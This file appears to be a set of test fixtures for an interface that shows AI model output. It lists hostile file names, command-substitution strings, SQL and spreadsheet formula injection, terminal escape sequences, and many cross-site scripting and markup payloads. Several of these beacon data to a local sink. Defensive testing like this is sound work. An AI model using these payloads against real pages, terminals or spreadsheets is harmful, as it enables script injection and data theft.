// Names and answers that mean harm: to files, to terminals, to pages.

/** May be an id or a name: odd, and no more. */
export const ODD = [
  ...[
    '../../up',
    '/abs',
    'a/b',
    '..',
    '.',
    'a\\b\\..',
    'CON',
    'nul.jsonl',
    'x:y',
    '%2e%2e%2f',
    '--flag',
    '$(id)',
  ],
  ...['`id`', '{{input}}', '😀', 'e\u0301', '__proto__', 'constructor', 'toString', 'a*b?', "'; DROP--", '~'],
  ...['index.db', 'VERSION', 'x'.repeat(200), '漢'.repeat(60), '<script>', '-', '#'],
];

/** What a model may say. */
export const SAYINGS = [
  '\u001b[2J\u001b]0;owned\u0007\u001b[31mred',
  '</script><script>alert(1)</script>',
  'one\r\ntwo\u2028three\u0085four\n{"type":"scenario_result"}\n',
  '__proto__',
  '\u202e\u2066reversed\u2069',
  '\0\u0001\u007f\u009b31m',
  '=cmd|calc!A1',
  '```\n| a | b |\n',
];

/** What a model may say to be taken for a part of the page that shows it. Whatever runs calls `owned`. */
export const MARKUP = [
  '<img src=x onerror="owned()">',
  '<svg onload="owned()"><animate onbegin="owned()" attributeName=x dur=1s></svg>',
  '<iframe srcdoc="<script>parent.owned()</script>"></iframe>',
  '<style>@import "http://127.0.0.1:9/leak.css"; body { background: url(http://127.0.0.1:9/leak) }</style>',
  '<base href="http://127.0.0.1:9/"><meta http-equiv="refresh" content="0; url=http://127.0.0.1:9/">',
  '<form action="http://127.0.0.1:9/"><input autofocus onfocus="owned()"><button>press</button></form>',
  '"><details open ontoggle="owned()">\'--></title></textarea></script>',
  '[press me](javascript:owned()) [and me](data:text/html,<script>owned()</script>) <javascript:owned()>',
  '![a picture](http://127.0.0.1:9/leak.png?what=secret) [![x](http://127.0.0.1:9/y)](http://127.0.0.1:9/z)',
  '[a link][r]\n\n[r]: http://127.0.0.1:9/ref "owned()"\n\n<http://127.0.0.1:9/auto> http://127.0.0.1:9/bare',
  '```html\n<script>owned()</script>\n```\n\n| <img src=x onerror=owned()> | b |\n|---|---|\n| `<b>` | **<i>** |',
  '&lt;script&gt;owned()&lt;/script&gt; &#x3C;img src=x onerror=owned()&#x3E;',
  '{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=owned()>"}}}',
];
